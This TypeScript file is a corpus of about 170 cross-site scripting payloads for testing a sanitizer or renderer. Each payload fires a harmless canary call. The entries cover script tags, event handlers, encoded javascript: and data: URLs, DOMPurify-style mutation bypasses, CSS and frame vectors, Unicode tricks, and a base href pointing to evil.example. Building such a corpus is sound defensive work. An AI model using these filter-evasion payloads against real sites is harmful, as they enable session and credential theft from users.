/**
 * A corpus of cross-site scripting payloads, written for this project after the usual public
 * lists (OWASP's XSS Filter Evasion and Prevention cheat sheets, PortSwigger's XSS cheat
 * sheet, the mutation-XSS write-ups on DOMPurify bypasses) but not copied from them.
 *
 * Every payload is a function of a number `n`: when any part of it runs, it calls
 * `window.__pwned(n)` (or `top.__pwned(n)` from inside a frame). Tests give each field of a
 * feed its own `n`, so a payload that fires says which payload and which field it came from.
 *
 * `what` is the short comment on what the payload tries; it is printed when a payload wins.
 */

export interface Payload {
  /** What it tries, in a few words. */
  readonly what: string;
  /** The payload text for code `n`. */
  readonly make: (n: number) => string;
}

/** The JavaScript every payload runs. */
const js = (n: number): string => `__pwned(${String(n)})`;
/** The same from inside a frame (srcdoc, data: documents share no globals with the page). */
const topJs = (n: number): string => `top.__pwned(${String(n)})`;

/** `text` as decimal character references, zero-padded and without semicolons (`&#0000106`). */
function paddedDecimalReferences(text: string): string {
  return Array.from(text, (char) => `&#${String(char.codePointAt(0)).padStart(7, '0')}`).join('');
}

/** `text` as hexadecimal character references (`&#x6A;`). */
function hexReferences(text: string): string {
  return Array.from(text, (char) => `&#x${(char.codePointAt(0) ?? 0).toString(16)};`).join('');
}

/** Every byte of `text` percent-encoded (`%6A%61…`). */
function percentEncoded(text: string): string {
  return [...new TextEncoder().encode(text)].map((byte) => `%${byte.toString(16).toUpperCase().padStart(2, '0')}`).join('');
}

/** Latin letters replaced by their fullwidth forms (ｊａｖａ…), `<`/`>`/`:` too. */
function fullwidth(text: string): string {
  return text.replace(/[!-~]/g, (char) => String.fromCharCode((char.codePointAt(0) ?? 0) + 0xfee0));
}

/**
 * 20 000 characters of words (in every field of a feed, that is a feed of a megabyte). One
 * unbroken run of that length is its own problem, a layout cost rather than a script: see
 * long-text.test.ts.
 */
const longText = (word: string): string => `${word} `.repeat(Math.ceil(20_000 / (word.length + 1)));

export const payloads: readonly Payload[] = [
  // ── <script> elements ────────────────────────────────────────────────────────────────
  { what: 'plain script element', make: (n) => `<script>${js(n)}</script>` },
  { what: 'upper-case SCRIPT', make: (n) => `<SCRIPT>${js(n)}</SCRIPT>` },
  { what: 'mixed-case ScRiPt', make: (n) => `<ScRiPt>${js(n)}</sCrIpT>` },
  { what: 'unclosed script (runs to the end of the input)', make: (n) => `<script>${js(n)}` },
  { what: 'script with a slash attribute <script/x>', make: (n) => `<script/x>${js(n)}</script>` },
  { what: 'nested <scr<script>ipt>: a filter that strips "<script>" once leaves a script', make: (n) => `<scr<script>ipt>${js(n)}</scr</script>ipt>` },
  { what: 'doubled angle brackets <<script>', make: (n) => `<<script>script>${js(n)}<</script>/script>` },
  { what: 'newlines inside the tags', make: (n) => `<script\n>${js(n)}</script\n>` },
  { what: 'module script', make: (n) => `<script type="module">${js(n)}</script>` },
  { what: 'script with a data: src', make: (n) => `<script src="data:text/javascript,${js(n)}"></script>` },
  { what: 'double-quoted attribute breakout then script', make: (n) => `"><script>${js(n)}</script>` },
  { what: 'single-quoted attribute breakout then script', make: (n) => `'><script>${js(n)}</script>` },
  { what: 'closing </title> before a script (escape a title context)', make: (n) => `</title><script>${js(n)}</script>` },
  { what: 'closing </textarea> before a script', make: (n) => `</textarea><script>${js(n)}</script>` },
  { what: '"</script>" inside a quoted attribute of a script tag', make: (n) => `<script x="</script>">${js(n)}</script>` },
  { what: 'script hidden behind a legacy HTML comment opener', make: (n) => `<script><!--\n${js(n)}//--></script>` },

  // ── event-handler attributes ────────────────────────────────────────────────────────
  { what: 'img onerror, unquoted', make: (n) => `<img src=x onerror=${js(n)}>` },
  { what: 'img onerror, quoted', make: (n) => `<img src="x" onerror="${js(n)}">` },
  { what: 'IMG ONERROR in capitals', make: (n) => `<IMG SRC=x ONERROR=${js(n)}>` },
  { what: 'img onerror without the closing ">"', make: (n) => `<img src=x onerror=${js(n)}//` },
  { what: 'slashes instead of spaces <img/src/onerror>', make: (n) => `<img/src=x/onerror=${js(n)}>` },
  { what: 'newline before "=" in the handler', make: (n) => `<img src=x onerror\n=${js(n)}>` },
  { what: 'handler body written with character references', make: (n) => `<img src=x onerror=${hexReferences(js(n))}>` },
  { what: 'handler parentheses as &lpar; &rpar;', make: (n) => `<img src=x onerror=__pwned&lpar;${String(n)}&rpar;>` },
  { what: 'handler via atob (base64)', make: (n) => `<img src=x onerror="eval(atob('${btoa(js(n))}'))">` },
  { what: 'handler via string concatenation', make: (n) => `<img src=x onerror="window['__pw'+'ned'](${String(n)})">` },
  { what: 'backtick-quoted src', make: (n) => `<img src=\`x\` onerror=${js(n)}>` },
  { what: 'svg onload', make: (n) => `<svg onload=${js(n)}>` },
  { what: 'svg/onload unclosed', make: (n) => `<svg/onload=${js(n)}//` },
  { what: 'body onload', make: (n) => `<body onload=${js(n)}>` },
  { what: 'input autofocus onfocus', make: (n) => `<input autofocus onfocus=${js(n)}>` },
  { what: 'select autofocus onfocus', make: (n) => `<select autofocus onfocus=${js(n)}></select>` },
  { what: 'textarea autofocus onfocus', make: (n) => `<textarea autofocus onfocus=${js(n)}></textarea>` },
  { what: 'contenteditable onblur', make: (n) => `<div contenteditable autofocus onblur=${js(n)}>x</div>` },
  { what: 'details open ontoggle (fires without interaction)', make: (n) => `<details open ontoggle=${js(n)}>x</details>` },
  { what: 'video source onerror', make: (n) => `<video><source onerror=${js(n)}></video>` },
  { what: 'audio onerror', make: (n) => `<audio src=x onerror=${js(n)}>` },
  { what: 'input type=image onerror', make: (n) => `<input type=image src=x onerror=${js(n)}>` },
  { what: 'iframe onload', make: (n) => `<iframe onload=${js(n)}></iframe>` },
  { what: 'mouseover on a div (needs hover)', make: (n) => `<div onmouseover=${js(n)} style="position:fixed;inset:0">x</div>` },
  { what: 'a with onfocus and tabindex', make: (n) => `<a href="#" tabindex=1 autofocus onfocus=${js(n)}>x</a>` },
  { what: 'marquee onstart', make: (n) => `<marquee onstart=${js(n)}>x</marquee>` },
  { what: 'style onload', make: (n) => `<style onload=${js(n)}></style>` },
  { what: 'object onerror', make: (n) => `<object data=x onerror=${js(n)}></object>` },
  { what: 'button formaction javascript:', make: (n) => `<form><button formaction=javascript:${js(n)}>x</button></form>` },
  { what: 'form action javascript: with autofocused submit', make: (n) => `<form action="javascript:${js(n)}"><input type=submit autofocus></form>` },
  { what: 'isindex action (legacy)', make: (n) => `<isindex action=javascript:${js(n)} type=submit>` },
  { what: 'onpointerenter on a full-page element', make: (n) => `<p onpointerenter=${js(n)} style="position:fixed;inset:0">x</p>` },

  // ── javascript:, data:, vbscript: URLs ──────────────────────────────────────────────
  { what: 'javascript: URL', make: (n) => `javascript:${js(n)}` },
  { what: 'JavaScript: mixed case', make: (n) => `JavaScript:${js(n)}` },
  { what: 'JAVASCRIPT: upper case', make: (n) => `JAVASCRIPT:${js(n)}` },
  { what: 'leading space', make: (n) => ` javascript:${js(n)}` },
  { what: 'leading and trailing whitespace', make: (n) => ` \t\n javascript:${js(n)} \n` },
  { what: 'tab inside the scheme', make: (n) => `java\tscript:${js(n)}` },
  { what: 'newline inside the scheme', make: (n) => `java\nscript:${js(n)}` },
  { what: 'carriage return inside the scheme', make: (n) => `jav\ra\nscr\tipt:${js(n)}` },
  { what: 'leading control character U+0001', make: (n) => `\u0001javascript:${js(n)}` },
  { what: 'leading NUL', make: (n) => `\u0000javascript:${js(n)}` },
  { what: 'NUL inside the scheme', make: (n) => `java\u0000script:${js(n)}` },
  { what: 'space before the colon', make: (n) => `javascript :${js(n)}` },
  { what: '&#106; decimal reference for the j', make: (n) => `&#106;avascript:${js(n)}` },
  { what: '&#x6A; hex reference for the j', make: (n) => `&#x6A;avascript:${js(n)}` },
  { what: 'whole scheme as zero-padded decimal references without semicolons', make: (n) => `${paddedDecimalReferences('javascript:')}${js(n)}` },
  { what: '&colon; for the colon', make: (n) => `javascript&colon;${js(n)}` },
  { what: '&Tab; inside the scheme', make: (n) => `java&Tab;script:${js(n)}` },
  { what: '&#x09; tab reference inside the scheme', make: (n) => `jav&#x09;ascript:${js(n)}` },
  { what: 'percent-encoded colon', make: (n) => `javascript%3A${js(n)}` },
  { what: 'percent-encoded scheme', make: (n) => `${percentEncoded('javascript')}:${js(n)}` },
  { what: 'percent-encoded body after a real javascript: scheme', make: (n) => `javascript:${percentEncoded(js(n))}` },
  { what: 'javascript: with a // comment and %0A', make: (n) => `javascript://%0A${js(n)}` },
  { what: 'javascript: after U+2028 line separator', make: (n) => `\u2028javascript:${js(n)}` },
  { what: 'data:text/html with a script', make: (n) => `data:text/html,<script>${topJs(n)}</script>` },
  { what: 'DATA: upper case', make: (n) => `DATA:text/html,<script>${topJs(n)}</script>` },
  { what: 'data: base64 HTML', make: (n) => `data:text/html;base64,${btoa(`<script>${topJs(n)}</script>`)}` },
  { what: 'data: SVG with onload', make: (n) => `data:image/svg+xml,<svg xmlns="http://www.w3.org/2000/svg" onload="${topJs(n)}"/>` },
  { what: 'vbscript: URL', make: (n) => `vbscript:${js(n)}` },
  { what: 'VBScript: mixed case', make: (n) => `VBScript:${js(n)}` },
  { what: 'http URL that tries to break out of its attribute with a quote', make: (n) => `https://example.org/" onmouseover="${js(n)}" x="` },
  { what: 'http URL for an image that adds onerror', make: (n) => `https://example.org/x.jpg" onerror="${js(n)}` },
  { what: 'http URL with markup in the path', make: (n) => `https://example.org/<script>${js(n)}</script>` },
  { what: 'srcset-style list with a javascript: candidate', make: (n) => `https://example.org/a.jpg 1x, javascript:${js(n)} 2x` },
  { what: 'protocol-relative URL with markup', make: (n) => `//example.org/"><img src=x onerror=${js(n)}>` },
  { what: 'a href javascript: in HTML content', make: (n) => `<a href="javascript:${js(n)}">link</a>` },
  { what: 'a href with a tab reference inside the scheme', make: (n) => `<a href="jav&#x09;ascript:${js(n)}">link</a>` },
  { what: 'a href with leading spaces and an entity-encoded scheme', make: (n) => `<a href="  &#x6A;avascript:${js(n)}">link</a>` },

  // ── markup that only appears after decoding (double decoding) ──────────────────────
  { what: '&lt;img onerror&gt;: becomes markup if text is decoded and then parsed', make: (n) => `&lt;img src=x onerror=${js(n)}&gt;` },
  { what: '&lt;script&gt; as references', make: (n) => `&lt;script&gt;${js(n)}&lt;/script&gt;` },
  { what: 'decimal references &#60; &#62;', make: (n) => `&#60;svg onload=${js(n)}&#62;` },
  { what: 'hex references &#x3C; &#x3E;', make: (n) => `&#x3C;img src=x onerror=${js(n)}&#x3E;` },
  { what: 'double-encoded &amp;lt;', make: (n) => `&amp;lt;img src=x onerror=${js(n)}&amp;gt;` },
  { what: 'legacy upper-case &LT; &GT;', make: (n) => `&LT;img src=x onerror=${js(n)}&GT;` },
  { what: 'references without semicolons &lt &gt', make: (n) => `&lta href=javascript:${js(n)}&gtx&lt/a&gt` },
  { what: 'JSON-style \\u003c escapes as literal text', make: (n) => `\\u003cimg src=x onerror=${js(n)}\\u003e` },
  { what: 'percent-encoded markup', make: (n) => percentEncoded(`<img src=x onerror=${js(n)}>`) },
  { what: 'escaped anchor with javascript: href', make: (n) => `&lt;a href="javascript:${js(n)}"&gt;link&lt;/a&gt;` },

  // ── SVG and MathML ──────────────────────────────────────────────────────────────────
  { what: 'svg script', make: (n) => `<svg><script>${js(n)}</script></svg>` },
  { what: 'svg script with a data: href', make: (n) => `<svg><script href="data:,${js(n)}"/></svg>` },
  { what: 'svg a xlink:href javascript:', make: (n) => `<svg><a xlink:href="javascript:${js(n)}"><text x="20" y="20">click</text></a></svg>` },
  { what: 'svg animate onbegin', make: (n) => `<svg><animate onbegin=${js(n)} attributeName=x dur=1s>` },
  { what: 'svg set turns an href into javascript:', make: (n) => `<svg><a><set attributeName=href to=javascript:${js(n)} /><text x=20 y=20>x</text></a></svg>` },
  { what: 'svg foreignObject iframe srcdoc', make: (n) => `<svg><foreignObject><iframe srcdoc="<script>${topJs(n)}</script>"></iframe></foreignObject></svg>` },
  { what: 'svg style whose content is markup in foreign content', make: (n) => `<svg><style><img src=x onerror=${js(n)}></style></svg>` },
  { what: 'svg </p> style-id mutation (DOMPurify-style bypass)', make: (n) => `<svg></p><style><a id="</style><img src=1 onerror=${js(n)}>">` },
  { what: 'math mtext table mglyph style (namespace confusion mXSS)', make: (n) => `<math><mtext><table><mglyph><style><img src=x onerror=${js(n)}>` },
  { what: 'form/math/mglyph nesting mXSS', make: (n) => `<form><math><mtext></form><form><mglyph><style></math><img src onerror=${js(n)}>` },
  { what: 'math href javascript:', make: (n) => `<math href="javascript:${js(n)}">click</math>` },
  { what: 'maction xlink:href', make: (n) => `<math><maction actiontype="statusline" xlink:href="javascript:${js(n)}">click</maction></math>` },
  { what: 'svg use with a data: document', make: (n) => `<svg><use href="data:image/svg+xml,&lt;svg id='x' xmlns='http://www.w3.org/2000/svg'&gt;&lt;image href='x' onerror='${js(n)}'/&gt;&lt;/svg&gt;#x"/></svg>` },

  // ── CSS ─────────────────────────────────────────────────────────────────────────────
  { what: 'style attribute url(javascript:)', make: (n) => `<div style="background:url(javascript:${js(n)})">x</div>` },
  { what: 'style attribute expression()', make: (n) => `<div style="width:expression(${js(n)})">x</div>` },
  { what: 'style element @import javascript:', make: (n) => `<style>@import 'javascript:${js(n)}';</style>` },
  { what: 'style element url("javascript:")', make: (n) => `<style>body{background:url("javascript:${js(n)}")}</style>` },
  { what: 'style element expression()', make: (n) => `<style>*{x:expression(${js(n)})}</style>` },
  { what: 'stylesheet link to javascript:', make: (n) => `<link rel=stylesheet href="javascript:${js(n)}">` },
  { what: '-moz-binding / behavior', make: (n) => `<div style="-moz-binding:url(data:,${js(n)});behavior:url(x.htc)">x</div>` },
  { what: 'CSS value that closes a style element', make: (n) => `red}</style><img src=x onerror=${js(n)}>` },
  { what: 'bare url(javascript:) as a CSS value', make: (n) => `url(javascript:${js(n)})` },

  // ── frames, objects, base, meta ─────────────────────────────────────────────────────
  { what: 'iframe src javascript:', make: (n) => `<iframe src="javascript:${topJs(n)}"></iframe>` },
  { what: 'iframe srcdoc with a script', make: (n) => `<iframe srcdoc="<script>${topJs(n)}</script>"></iframe>` },
  { what: 'iframe srcdoc with escaped markup', make: (n) => `<iframe srcdoc="&lt;img src=x onerror=${topJs(n)}&gt;"></iframe>` },
  { what: 'object data javascript:', make: (n) => `<object data="javascript:${js(n)}"></object>` },
  { what: 'object data data:text/html', make: (n) => `<object data="data:text/html,<script>${topJs(n)}</script>"></object>` },
  { what: 'embed src javascript:', make: (n) => `<embed src="javascript:${js(n)}">` },
  { what: 'embed src data:text/html', make: (n) => `<embed src="data:text/html,<script>${topJs(n)}</script>">` },
  { what: 'frameset onload', make: (n) => `<frameset onload=${js(n)}>` },
  { what: 'base href javascript: then a relative link', make: (n) => `<base href="javascript:${js(n)}//"><a href="/x">x</a>` },
  { what: 'base href to another site (hijacks relative URLs)', make: (n) => `<base href="https://evil.example/${String(n)}/">` },
  { what: 'meta refresh to javascript:', make: (n) => `<meta http-equiv="refresh" content="0;url=javascript:${js(n)}">` },
  { what: 'meta refresh to data:text/html', make: (n) => `<meta http-equiv="refresh" content="0;url=data:text/html,<script>${topJs(n)}</script>">` },

  // ── templates, noscript, comments, CDATA, raw-text elements ─────────────────────────
  { what: 'template content (inert until cloned)', make: (n) => `<template><img src=x onerror=${js(n)}></template>` },
  { what: 'script inside a template', make: (n) => `<template><script>${js(n)}</script></template>` },
  { what: 'noscript whose attribute hides an img (mXSS)', make: (n) => `<noscript><p title="</noscript><img src=x onerror=${js(n)}>"></noscript>` },
  { what: 'img inside noscript', make: (n) => `<noscript><img src=x onerror=${js(n)}></noscript>` },
  { what: 'img inside an HTML comment', make: (n) => `<!--<img src=x onerror=${js(n)}>-->` },
  { what: 'abruptly closed comment <!--> then img', make: (n) => `<!--><img src=x onerror=${js(n)}>-->` },
  { what: 'comment closed by --!>', make: (n) => `<!-- x --!><img src=x onerror=${js(n)}>` },
  { what: 'CDATA section in HTML (a bogus comment)', make: (n) => `<![CDATA[><img src=x onerror=${js(n)}>]]>` },
  { what: 'processing instruction then img', make: (n) => `<?xml version="1.0"?><img src=x onerror=${js(n)}>` },
  { what: 'doctype then img', make: (n) => `<!DOCTYPE html><img src=x onerror=${js(n)}>` },
  { what: 'xmp raw text', make: (n) => `<xmp><img src=x onerror=${js(n)}></xmp>` },
  { what: 'textarea raw text', make: (n) => `<textarea><img src=x onerror=${js(n)}></textarea>` },
  { what: 'title raw text', make: (n) => `<title><img src=x onerror=${js(n)}></title>` },
  { what: 'plaintext swallows the rest', make: (n) => `<plaintext><img src=x onerror=${js(n)}>` },
  { what: 'noembed attribute breakout', make: (n) => `<noembed><img title="</noembed><img src=x onerror=${js(n)}>"></noembed>` },
  { what: 'Lit marker look-alike comment', make: (n) => `<!--?lit$123456$--><img src=x onerror=${js(n)}>` },
  { what: 'Lit attribute marker look-alike', make: (n) => `lit$123456$" onerror="${js(n)}` },

  // ── Unicode look-alikes, bidi controls, NUL, odd code points ────────────────────────
  { what: 'fullwidth ＜script＞', make: (n) => `${fullwidth('<script>')}${js(n)}${fullwidth('</script>')}` },
  { what: 'fullwidth javascript：', make: (n) => `${fullwidth('javascript:')}${js(n)}` },
  { what: 'small form variants ﹤script﹥', make: (n) => `\uFE64script\uFE65${js(n)}\uFE64/script\uFE65` },
  { what: 'javascript with Cyrillic а and е look-alikes', make: (n) => `j\u0430v\u0430script:${js(n)}` },
  { what: 'right-to-left override U+202E hiding reversed markup', make: (n) => `\u202E>tpircs/<${js(n)}>tpircs<` },
  { what: 'bidi isolates U+2066–U+2069 around markup', make: (n) => `\u2066<img src=x onerror=${js(n)}>\u2069\u2067x\u2068y\u2069` },
  { what: 'RLO inside a URL', make: (n) => `https://example.org/\u202Egpj.exe?${js(n)}` },
  { what: 'NUL inside the tag name', make: (n) => `<scr\u0000ipt>${js(n)}</scr\u0000ipt>` },
  { what: 'NUL before the handler attribute', make: (n) => `<img src=x \u0000onerror=${js(n)}>` },
  { what: 'NUL before a script', make: (n) => `\u0000<script>${js(n)}</script>` },
  { what: 'zero-width space inside the tag name', make: (n) => `<scr\u200Bipt>${js(n)}</scr\u200Bipt>` },
  { what: 'byte order mark before a script', make: (n) => `\uFEFF<script>${js(n)}</script>` },
  { what: 'lone surrogate before an img', make: (n) => `\uD800<img src=x onerror=${js(n)}>\uDFFF` },
  { what: 'C1 control U+0085 (NEL) and U+009B (CSI)', make: (n) => `\u0085\u009B<img src=x onerror=${js(n)}>` },

  // ── size and parser stress ──────────────────────────────────────────────────────────
  { what: 'very long text after an img', make: (n) => `<img src=x onerror=${js(n)}>${longText('Kabupaten')}` },
  { what: 'very long text before a script', make: (n) => `${longText('desa')}<script>${js(n)}</script>` },
  { what: 'thousands of unclosed "<a " (tokenizer backtracking)', make: (n) => `${'<a '.repeat(5000)}<img src=x onerror=${js(n)}>` },
  { what: 'thousands of unbalanced quotes inside a tag', make: (n) => `<a title=${'"\''.repeat(5000)} onmouseover=${js(n)}>x</a>` },
  { what: 'deeply nested elements', make: (n) => `${'<div>'.repeat(3000)}<img src=x onerror=${js(n)}>${'</div>'.repeat(3000)}` },
  { what: 'thousands of character references', make: (n) => `${'&#60;'.repeat(5000)}${js(n)}${'&amp;'.repeat(5000)}` },

  // ── template and prototype tricks ───────────────────────────────────────────────────
  { what: 'template-literal placeholder', make: (n) => `\${${js(n)}}` },
  { what: 'Angular-style constructor expression', make: (n) => `{{constructor.constructor('${js(n)}')()}}` },
  // These two run nothing: they catch ids and names used as keys of plain objects.
  { what: '__proto__ as a value (ids used as object keys)', make: () => '__proto__' },
  { what: 'constructor as a value', make: () => 'constructor' },
  { what: 'polyglot for URL, attribute, script and markup contexts', make: (n) => `jaVasCript:/*-/*\`/*\\\`/*'/*"/**/(/* */oNcliCk=${js(n)} )//%0D%0A%0d%0a//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=${js(n)}//>\\x3e` },
  { what: 'event attribute in a closing tag', make: (n) => `</a onmouseover=${js(n)}>x` },
  { what: 'unquoted attribute with a slash then handler', make: (n) => `<a href=https://example.org/ onmouseover=${js(n)}>x</a>` },
];
